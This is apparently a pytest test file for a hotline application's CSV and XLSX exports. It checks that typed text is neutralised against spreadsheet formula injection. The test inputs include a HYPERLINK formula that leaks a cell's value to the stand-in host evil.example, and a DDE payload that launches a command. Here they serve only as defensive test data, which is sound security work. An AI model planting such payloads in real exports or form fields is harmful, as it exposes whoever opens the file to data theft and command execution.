"""Spreadsheet formula injection (issue 13, item 14): text a person typed never becomes a live
formula in a CSV or XLSX export; numbers stay numbers, E.164 phones stay readable text."""
import csv
import io

import openpyxl
import pytest

from hotline import spreadsheets
from hotline.calls.service import log_call
from hotline.models import FaqEntry, FaqStatus
from hotline.stats.daily import refresh

from .factories import call_payload, make_user, topic

EVIL = '=HYPERLINK("http://evil.example/"&A1,"X")'


@pytest.mark.parametrize("text", [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_every_dangerous_start_is_neutralised(text):
    assert spreadsheets.csv_cell(text) == "'" + text
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv(["h"], [[text]]).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + text]
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx([("s", ["h"], [[text]])])))
    cell = book["s"]["A2"]
    # (openpyxl reads a carriage return back as its escape, _x000D_)
    assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == text and cell.quotePrefix


def test_numbers_stay_numbers_and_phones_stay_readable():
    row = [42, 3.5, "+73422124486", "Обычный текст", None]
    assert [spreadsheets.csv_cell(v) for v in row] == [42, 3.5, "+73422124486", "Обычный текст", ""]
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx([("s", list("abcde"), [row])])))["s"]
    assert [c.value for c in sheet[2]] == [42, 3.5, "+73422124486", "Обычный текст", None]
    assert sheet["A2"].data_type == "n" and sheet["C2"].data_type == "s" and not sheet["C2"].quotePrefix


def test_a_hostile_faq_question_is_inert_in_the_statistics_exports(client, db, login_as, reference):
    entry = FaqEntry(question=EVIL, answer="—", topic_id=topic().id, language="ru", status=FaqStatus.PUBLISHED)
    db.session.add(entry)
    db.session.flush()
    log_call(make_user("operator"), call_payload(outcome="answered", answer="—", faq_ids=[entry.id]))
    db.session.commit()
    refresh()
    login_as("supervisor")
    response = client.get("/stats/export/faq_top.csv?period=7d")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[1] == [str(entry.id), "'" + EVIL, "1"]
    book = openpyxl.load_workbook(io.BytesIO(client.get("/stats/export/all.xlsx?period=7d").get_data()))
    question = book["faq_top"]["B2"]
    assert question.value == EVIL and question.data_type == "s" and question.quotePrefix
    assert book["faq_top"]["C2"].value == 1
